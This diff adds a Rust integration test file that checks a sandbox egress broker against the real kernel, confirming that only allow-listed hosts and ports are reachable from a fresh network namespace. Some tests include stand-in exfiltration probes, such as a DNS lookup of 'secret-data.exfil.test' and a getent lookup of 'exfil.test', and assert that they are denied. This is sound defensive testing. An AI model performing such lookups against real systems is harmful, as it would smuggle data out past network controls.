@@ -1,0 +1,602 @@
+//! Host-pinned egress against the real kernel.
+//!
+//! Each test runs its "sandbox" in a thread that unshares a fresh network namespace (a thread's
+//! namespace is its own), so only the sockets made there by `bind_inside` are reachable from
+//! it. Upstream servers are started by the test on the host's 127.0.0.1, and the broker is given
+//! a resolver map, so nothing outside this machine is ever contacted.
+
+use std::io::{self, Read, Write};
+use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
+use std::os::fd::{AsFd, FromRawFd, OwnedFd};
+use std::sync::{mpsc, Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use policy_runtime::HostPattern;
+use sandbox::egress::{
+    bind_inside, start_broker_with, BrokerOptions, Decision, EgressEvent, EgressPlan, EventKind,
+    Resolver,
+};
+
+/// Everything that must fail has to fail within this.
+const FAST: Duration = Duration::from_millis(1500);
+
+fn require_kernel() -> bool {
+    std::env::var("TOOLPOLICY_REQUIRE_KERNEL").as_deref() == Ok("1")
+}
+
+fn plan(list: &[&str]) -> EgressPlan {
+    let hosts: Vec<HostPattern> = list.iter().map(|s| s.parse().unwrap()).collect();
+    EgressPlan::new(&hosts).unwrap()
+}
+
+fn lo_up() -> io::Result<()> {
+    // SAFETY: plain socket; owned below.
+    let raw = unsafe { libc::socket(libc::AF_INET, libc::SOCK_DGRAM | libc::SOCK_CLOEXEC, 0) };
+    if raw < 0 {
+        return Err(io::Error::last_os_error());
+    }
+    // SAFETY: fresh descriptor.
+    let sock = unsafe { OwnedFd::from_raw_fd(raw) };
+    // SAFETY: an all-zero ifreq is valid; the name is NUL-terminated; the ioctls read and
+    // write only this struct.
+    unsafe {
+        let mut req: libc::ifreq = std::mem::zeroed();
+        req.ifr_name[0] = b'l' as libc::c_char;
+        req.ifr_name[1] = b'o' as libc::c_char;
+        use std::os::fd::AsRawFd;
+        if libc::ioctl(sock.as_raw_fd(), libc::SIOCGIFFLAGS, &mut req) < 0 {
+            return Err(io::Error::last_os_error());
+        }
+        req.ifr_ifru.ifru_flags |= libc::IFF_UP as libc::c_short;
+        if libc::ioctl(sock.as_raw_fd(), libc::SIOCSIFFLAGS, &mut req) < 0 {
+            return Err(io::Error::last_os_error());
+        }
+    }
+    Ok(())
+}
+
+fn socketpair() -> (OwnedFd, OwnedFd) {
+    let mut fds = [0; 2];
+    // SAFETY: socketpair fills two descriptors, owned below.
+    let rc = unsafe {
+        libc::socketpair(
+            libc::AF_UNIX,
+            libc::SOCK_SEQPACKET | libc::SOCK_CLOEXEC,
+            0,
+            fds.as_mut_ptr(),
+        )
+    };
+    assert_eq!(rc, 0, "socketpair: {}", io::Error::last_os_error());
+    // SAFETY: fresh descriptors.
+    unsafe { (OwnedFd::from_raw_fd(fds[0]), OwnedFd::from_raw_fd(fds[1])) }
+}
+
+/// Options for tests: upstreams live on the host's 127.0.0.1, so the rebinding guard is off.
+fn options(resolver: Resolver) -> BrokerOptions {
+    BrokerOptions {
+        resolver,
+        allow_host_local: true,
+        connect_timeout: Duration::from_secs(2),
+        ..BrokerOptions::default()
+    }
+}
+
+/// Runs `client` in a fresh network namespace whose only exits are `plan`'s endpoints, served by
+/// a broker with `options`. Returns what `client` returned and every event, or `None` when the
+/// kernel cannot make a network namespace here.
+fn sandboxed<T: Send + 'static>(
+    plan: &EgressPlan,
+    options: BrokerOptions,
+    client: impl FnOnce(&EgressPlan) -> T + Send + 'static,
+) -> Option<(T, Vec<EgressEvent>)> {
+    let (outside, inside) = socketpair();
+    let (setup_tx, setup_rx) = mpsc::channel::<io::Result<()>>();
+    let (go_tx, go_rx) = mpsc::channel::<()>();
+    let inner_plan = plan.clone();
+    let thread = std::thread::spawn(move || {
+        // SAFETY: unshare affects only this thread.
+        let setup = if unsafe { libc::unshare(libc::CLONE_NEWNET) } != 0 {
+            Err(io::Error::last_os_error())
+        } else {
+            lo_up().and_then(|()| bind_inside(&inner_plan, inside.as_fd()))
+        };
+        drop(inside);
+        let ok = setup.is_ok();
+        setup_tx.send(setup).unwrap();
+        if !ok {
+            return None;
+        }
+        go_rx.recv().ok()?;
+        Some(client(&inner_plan))
+    });
+    match setup_rx.recv().unwrap() {
+        Ok(()) => {}
+        Err(e) if e.raw_os_error() == Some(libc::EPERM) && !require_kernel() => {
+            eprintln!("skipped: cannot create a network namespace here ({e}); run as root");
+            return None;
+        }
+        Err(e) => panic!("sandbox setup failed: {e}"),
+    }
+    let events = Arc::new(Mutex::new(Vec::new()));
+    let sink_events = Arc::clone(&events);
+    let broker = start_broker_with(
+        plan,
+        outside,
+        Arc::new(move |e| sink_events.lock().unwrap().push(e)),
+        options,
+    )
+    .expect("broker starts");
+    go_tx.send(()).unwrap();
+    let result = thread.join().expect("client thread").expect("client ran");
+    drop(broker);
+    let events = events.lock().unwrap().clone();
+    Some((result, events))
+}
+
+/// A tiny HTTP/1.1 server on the host's loopback; answers every request with its path.
+fn http_server() -> SocketAddr {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = listener.local_addr().unwrap();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut stream) = stream else { continue };
+            std::thread::spawn(move || {
+                let mut req = Vec::new();
+                let mut buf = [0u8; 1024];
+                while !req.windows(4).any(|w| w == b"\r\n\r\n") {
+                    match stream.read(&mut buf) {
+                        Ok(0) | Err(_) => return,
+                        Ok(n) => req.extend_from_slice(&buf[..n]),
+                    }
+                }
+                let text = String::from_utf8_lossy(&req);
+                let path = text.split_whitespace().nth(1).unwrap_or("?").to_string();
+                let body = format!("hello from upstream, path {path}\n");
+                let _ = write!(
+                    stream,
+                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                    body.len()
+                );
+            });
+        }
+    });
+    addr
+}
+
+/// A port on the host's loopback where nothing listens.
+fn dead_port() -> SocketAddr {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    l.local_addr().unwrap()
+}
+
+fn http_get(addr: SocketAddr, host: &str, path: &str) -> io::Result<String> {
+    let mut s = TcpStream::connect_timeout(&addr, FAST)?;
+    s.set_read_timeout(Some(Duration::from_secs(5)))?;
+    write!(
+        s,
+        "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
+    )?;
+    let mut out = String::new();
+    s.read_to_string(&mut out)?;
+    Ok(out)
+}
+
+/// Sends one DNS question to the sandbox's resolver; returns the rcode and the A address.
+fn dns_a(name: &str) -> io::Result<(u8, Option<Ipv4Addr>)> {
+    let sock = UdpSocket::bind("127.0.0.1:0")?;
+    sock.set_read_timeout(Some(Duration::from_secs(2)))?;
+    let mut q = vec![0xab, 0xcd, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
+    for label in name.split('.') {
+        q.push(label.len() as u8);
+        q.extend_from_slice(label.as_bytes());
+    }
+    q.extend_from_slice(&[0, 0, 1, 0, 1]);
+    sock.send_to(&q, "127.0.0.1:53")?;
+    let mut buf = [0u8; 512];
+    let n = sock.recv(&mut buf)?;
+    assert_eq!(&buf[..2], &[0xab, 0xcd], "reply id");
+    let rcode = buf[3] & 0x0f;
+    let answers = u16::from_be_bytes([buf[6], buf[7]]);
+    let addr = (answers > 0).then(|| Ipv4Addr::new(buf[n - 4], buf[n - 3], buf[n - 2], buf[n - 1]));
+    Ok((rcode, addr))
+}
+
+/// Runs `f`, which must fail, and returns its error and how long it took.
+fn must_fail<T: std::fmt::Debug>(what: &str, f: impl FnOnce() -> io::Result<T>) -> io::Error {
+    let t = Instant::now();
+    let r = f();
+    let took = t.elapsed();
+    let err = match r {
+        Ok(v) => panic!("{what}: expected a failure, got {v:?}"),
+        Err(e) => e,
+    };
+    assert!(took < FAST, "{what}: failed only after {took:?}: {err}");
+    err
+}
+
+fn connects(events: &[EgressEvent]) -> Vec<&EgressEvent> {
+    events
+        .iter()
+        .filter(|e| e.kind == EventKind::Connect)
+        .collect()
+}
+
+#[test]
+fn allowed_host_and_port_serve_a_real_http_request() {
+    let server = http_server();
+    let plan = plan(&["api.test:80"]);
+    let Some((body, events)) = sandboxed(
+        &plan,
+        options(Resolver::map([("api.test", server)])),
+        |_| {
+            let (rcode, addr) = dns_a("api.test").unwrap();
+            assert_eq!(rcode, 0);
+            let ip = addr.expect("an A record for the allowed name");
+            http_get(SocketAddr::new(IpAddr::V4(ip), 80), "api.test", "/v1/ping").unwrap()
+        },
+    ) else {
+        return;
+    };
+    assert!(body.starts_with("HTTP/1.1 200 OK"), "{body}");
+    assert!(
+        body.contains("hello from upstream, path /v1/ping"),
+        "{body}"
+    );
+    let c = connects(&events);
+    assert_eq!(c.len(), 1, "{events:#?}");
+    assert_eq!(c[0].decision, Decision::Allowed);
+    assert_eq!((c[0].host.as_str(), c[0].port), ("api.test", 80));
+    assert_eq!(c[0].upstream.as_deref(), Some(server.to_string().as_str()));
+    assert!(
+        c[0].bytes_up > 40 && c[0].bytes_down as usize == body.len(),
+        "{:?}",
+        c[0]
+    );
+    assert_eq!(c[0].error, None);
+    let dns: Vec<_> = events.iter().filter(|e| e.kind == EventKind::Dns).collect();
+    assert_eq!(dns.len(), 1);
+    assert_eq!(
+        (dns[0].decision, dns[0].host.as_str()),
+        (Decision::Allowed, "api.test")
+    );
+}
+
+#[test]
+fn everything_else_fails_fast() {
+    let server = http_server();
+    let udp_host = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let udp_addr = udp_host.local_addr().unwrap();
+    let v6_host = TcpListener::bind("[::1]:0").ok();
+    let v6_addr = v6_host.as_ref().map(|l| l.local_addr().unwrap());
+    // Control: without the sandbox, the same actions succeed.
+    assert!(TcpStream::connect(server).is_ok());
+    UdpSocket::bind("127.0.0.1:0")
+        .unwrap()
+        .send_to(b"x", udp_addr)
+        .unwrap();
+    let mut b = [0u8; 8];
+    udp_host
+        .set_read_timeout(Some(Duration::from_secs(2)))
+        .unwrap();
+    assert_eq!(
+        udp_host.recv(&mut b).unwrap(),
+        1,
+        "control datagram arrives"
+    );
+    if let Some(a) = v6_addr {
+        assert!(TcpStream::connect(a).is_ok());
+    }
+
+    let plan = plan(&["api.test:80"]);
+    let Some(((), events)) = sandboxed(
+        &plan,
+        options(Resolver::map([
+            ("api.test", server),
+            ("other.test", server),
+        ])),
+        move |plan| {
+            let api = plan.endpoints()[0].addr;
+            // The same host on another port.
+            let e = must_fail("api.test:81", || TcpStream::connect((api, 81)));
+            assert_eq!(e.kind(), io::ErrorKind::ConnectionRefused, "{e}");
+            // Another host: its name does not resolve, and no other address listens.
+            let (rcode, addr) = dns_a("other.test").unwrap();
+            assert_eq!((rcode, addr), (3, None), "NXDOMAIN for an unlisted name");
+            let e = must_fail("127.0.0.3:80", || TcpStream::connect("127.0.0.3:80"));
+            assert_eq!(e.kind(), io::ErrorKind::ConnectionRefused, "{e}");
+            // A raw IP: the upstream server's own address, and a documentation address.
+            let e = must_fail("raw upstream IP", || TcpStream::connect(server));
+            assert_eq!(e.kind(), io::ErrorKind::ConnectionRefused, "{e}");
+            let e = must_fail("192.0.2.1:80", || {
+                TcpStream::connect_timeout(&"192.0.2.1:80".parse().unwrap(), FAST)
+            });
+            assert_eq!(e.raw_os_error(), Some(libc::ENETUNREACH), "{e}");
+            // UDP: nothing routes out, and the host's loopback listener is not this loopback.
+            let u = UdpSocket::bind("0.0.0.0:0").unwrap();
+            let e = must_fail("UDP out", || u.send_to(b"x", "192.0.2.1:53"));
+            assert_eq!(e.raw_os_error(), Some(libc::ENETUNREACH), "{e}");
+            u.send_to(b"leak", udp_addr).unwrap(); // delivered to this namespace's lo only
+                                                   // IPv6: loopback of the host is not reachable, and there is no route.
+            if let Some(a) = v6_addr {
+                let e = must_fail("[::1] host port", || TcpStream::connect(a));
+                assert_eq!(e.kind(), io::ErrorKind::ConnectionRefused, "{e}");
+            }
+            let e = must_fail("IPv6 out", || {
+                TcpStream::connect_timeout(&"[2001:db8::1]:80".parse().unwrap(), FAST)
+            });
+            assert!(
+                matches!(
+                    e.raw_os_error(),
+                    Some(libc::ENETUNREACH) | Some(libc::EADDRNOTAVAIL)
+                ),
+                "{e}"
+            );
+            // A DNS lookup of an unlisted name is answered locally and fast.
+            let t = Instant::now();
+            let (rcode, _) = dns_a("secret-data.exfil.test").unwrap();
+            assert_eq!(rcode, 3);
+            assert!(t.elapsed() < FAST);
+        },
+    ) else {
+        return;
+    };
+    udp_host
+        .set_read_timeout(Some(Duration::from_millis(300)))
+        .unwrap();
+    assert!(
+        udp_host.recv(&mut b).is_err(),
+        "a datagram left the sandbox"
+    );
+    assert!(
+        connects(&events).is_empty(),
+        "nothing reached the broker: {events:#?}"
+    );
+    let denied: Vec<&str> = events
+        .iter()
+        .filter(|e| e.kind == EventKind::Dns && e.decision == Decision::Denied)
+        .map(|e| e.host.as_str())
+        .collect();
+    assert_eq!(denied, ["other.test", "secret-data.exfil.test"]);
+}
+
+#[test]
+fn unreachable_upstream_is_a_clean_error() {
+    let dead = dead_port();
+    let plan = plan(&["down.test:80"]);
+    let Some((err, events)) = sandboxed(
+        &plan,
+        options(Resolver::map([("down.test", dead)])),
+        |plan| {
+            let addr = SocketAddr::new(plan.endpoints()[0].addr, 80);
+            must_fail("GET through a dead upstream", || {
+                http_get(addr, "down.test", "/")
+            })
+        },
+    ) else {
+        return;
+    };
+    assert_eq!(err.kind(), io::ErrorKind::ConnectionReset, "{err}");
+    let c = connects(&events);
+    assert_eq!(c.len(), 1, "{events:#?}");
+    assert_eq!(c[0].decision, Decision::Allowed);
+    let msg = c[0].error.as_deref().unwrap_or_default();
+    assert!(
+        msg.contains("cannot connect to down.test") && msg.contains("refused"),
+        "{msg}"
+    );
+}
+
+#[test]
+fn unresolvable_upstream_is_a_clean_error() {
+    let plan = plan(&["gone.test:80"]);
+    let Some((err, events)) = sandboxed(&plan, options(Resolver::map([])), |plan| {
+        let addr = SocketAddr::new(plan.endpoints()[0].addr, 80);
+        must_fail("GET to a name the host cannot resolve", || {
+            http_get(addr, "gone.test", "/")
+        })
+    }) else {
+        return;
+    };
+    assert_eq!(err.kind(), io::ErrorKind::ConnectionReset, "{err}");
+    let msg = connects(&events)[0].error.clone().unwrap_or_default();
+    assert!(msg.contains("cannot resolve gone.test"), "{msg}");
+}
+
+#[test]
+fn allowed_name_pointing_at_host_loopback_is_refused_by_default() {
+    let server = http_server();
+    let plan = plan(&["api.test:80"]);
+    let guarded = BrokerOptions {
+        allow_host_local: false,
+        ..options(Resolver::map([("api.test", server)]))
+    };
+    let Some((err, events)) = sandboxed(&plan, guarded, |plan| {
+        let addr = SocketAddr::new(plan.endpoints()[0].addr, 80);
+        must_fail("rebinding to host loopback", || {
+            http_get(addr, "api.test", "/")
+        })
+    }) else {
+        return;
+    };
+    assert_eq!(err.kind(), io::ErrorKind::ConnectionReset, "{err}");
+    let msg = connects(&events)[0].error.clone().unwrap_or_default();
+    assert!(msg.contains("host-local address 127.0.0.1"), "{msg}");
+}
+
+#[test]
+fn ip_literal_endpoint_is_reachable_at_its_own_address() {
+    let server = http_server();
+    let pattern = format!("127.0.0.1:{}", server.port());
+    let plan = plan(&[pattern.as_str()]);
+    let guarded = BrokerOptions {
+        allow_host_local: false, // literals are honoured even with the guard on
+        ..options(Resolver::map([]))
+    };
+    let Some((body, events)) = sandboxed(&plan, guarded, move |_| {
+        http_get(server, "localhost", "/literal").unwrap()
+    }) else {
+        return;
+    };
+    assert!(body.contains("path /literal"), "{body}");
+    assert_eq!(connects(&events)[0].host, "127.0.0.1");
+}
+
+#[test]
+fn wildcard_names_get_addresses_on_demand() {
+    let server = http_server();
+    let plan = plan(&["*.svc.test:80"]);
+    let Some(((body, unused), events)) = sandboxed(
+        &plan,
+        options(Resolver::map([("a.svc.test", server)])),
+        |plan| {
+            let (rcode, ip) = dns_a("a.svc.test").unwrap();
+            assert_eq!(rcode, 0);
+            let ip = ip.unwrap();
+            assert_eq!(
+                dns_a("A.svc.test").unwrap().1,
+                Some(ip),
+                "same name, same address"
+            );
+            assert_eq!(
+                dns_a("svc.test").unwrap().0,
+                3,
+                "the bare suffix is not covered"
+            );
+            let body = http_get(SocketAddr::new(IpAddr::V4(ip), 80), "a.svc.test", "/w").unwrap();
+            // A pool address that no name was handed: accepted by the kernel, reset by the broker.
+            let spare = plan
+                .endpoints()
+                .iter()
+                .map(|e| e.addr)
+                .find(|a| *a != IpAddr::V4(ip))
+                .unwrap();
+            let unused = must_fail("unassigned pool address", || {
+                http_get(SocketAddr::new(spare, 80), "x", "/")
+            });
+            (body, unused)
+        },
+    ) else {
+        return;
+    };
+    assert!(body.contains("path /w"), "{body}");
+    assert_eq!(unused.kind(), io::ErrorKind::ConnectionReset);
+    let c = connects(&events);
+    assert_eq!(c.len(), 2, "{events:#?}");
+    assert!(c
+        .iter()
+        .any(|e| e.decision == Decision::Allowed && e.host == "a.svc.test"));
+    assert!(c.iter().any(|e| e.decision == Decision::Denied
+        && e.error
+            .as_deref()
+            .unwrap_or("")
+            .contains("never handed out")));
+}
+
+#[test]
+fn dns_over_tcp_answers_like_udp() {
+    let plan = plan(&["api.test:443"]);
+    let Some((rcodes, _)) = sandboxed(&plan, options(Resolver::map([])), |_| {
+        let mut s = TcpStream::connect("127.0.0.1:53").unwrap();
+        s.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
+        let mut rcodes = Vec::new();
+        for name in ["api.test", "nope.test"] {
+            let mut q = vec![0, 7, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
+            for label in name.split('.') {
+                q.push(label.len() as u8);
+                q.extend_from_slice(label.as_bytes());
+            }
+            q.extend_from_slice(&[0, 0, 1, 0, 1]);
+            let mut framed = (q.len() as u16).to_be_bytes().to_vec();
+            framed.extend(q);
+            s.write_all(&framed).unwrap();
+            let mut len = [0u8; 2];
+            s.read_exact(&mut len).unwrap();
+            let mut reply = vec![0u8; u16::from_be_bytes(len) as usize];
+            s.read_exact(&mut reply).unwrap();
+            rcodes.push(reply[3] & 0x0f);
+        }
+        rcodes
+    }) else {
+        return;
+    };
+    assert_eq!(rcodes, [0, 3]);
+}
+
+/// Real programs, real name resolution: curl and getent in a mount namespace that shows the
+/// plan's /etc files.
+#[test]
+fn curl_and_getent_by_name() {
+    let have = |tool: &str| {
+        std::process::Command::new("sh")
+            .args(["-c", &format!("command -v {tool}")])
+            .output()
+            .is_ok_and(|o| o.status.success())
+    };
+    if !(have("curl") && have("getent") && have("unshare") && have("mount")) {
+        assert!(
+            !require_kernel(),
+            "curl, getent, unshare and mount are needed"
+        );
+        eprintln!("skipped: curl, getent, unshare or mount is not installed");
+        return;
+    }
+    let server = http_server();
+    let plan = plan(&["api.test:80"]);
+    let dir = tempfile::tempdir().unwrap();
+    let mut script = String::from("set -u\n");
+    for (path, bytes) in plan.files() {
+        let copy = dir.path().join(path.file_name().unwrap());
+        std::fs::write(&copy, bytes).unwrap();
+        script.push_str(&format!(
+            "mount --bind -o ro {} {} || exit 90\n",
+            copy.display(),
+            path.display()
+        ));
+    }
+    script.push_str(
+        "curl -sS --max-time 5 http://api.test/by-name; echo \"ok=$?\"\n\
+         curl -sS --max-time 5 http://api.test:81/; echo \"port=$?\"\n\
+         curl -sS --max-time 5 http://other.test/; echo \"other=$?\"\n\
+         getent hosts api.test; getent hosts exfil.test; echo \"getent=$?\"\n",
+    );
+    let Some((out, events)) = sandboxed(
+        &plan,
+        options(Resolver::map([("api.test", server)])),
+        move |_| {
+            let t = Instant::now();
+            let out = std::process::Command::new("unshare")
+                .args(["--mount", "--propagation", "private", "sh", "-c", &script])
+                .output()
+                .unwrap();
+            let text = format!(
+                "{}{}",
+                String::from_utf8_lossy(&out.stdout),
+                String::from_utf8_lossy(&out.stderr)
+            );
+            (text, t.elapsed())
+        },
+    ) else {
+        return;
+    };
+    let (text, took) = out;
+    assert!(
+        text.contains("hello from upstream, path /by-name"),
+        "{text}"
+    );
+    assert!(text.contains("ok=0"), "{text}");
+    assert!(
+        text.contains("port=7"),
+        "connection refused expected: {text}"
+    );
+    assert!(
+        text.contains("other=6"),
+        "could not resolve expected: {text}"
+    );
+    assert!(text.contains("127.0.0.2"), "{text}");
+    assert!(text.contains("getent=2"), "{text}");
+    assert!(took < Duration::from_secs(5), "took {took:?}: {text}");
+    assert!(events.iter().any(|e| e.kind == EventKind::Dns
+        && e.decision == Decision::Denied
+        && e.host == "exfil.test"));
+    assert_eq!(connects(&events).len(), 1, "{events:#?}");
+}
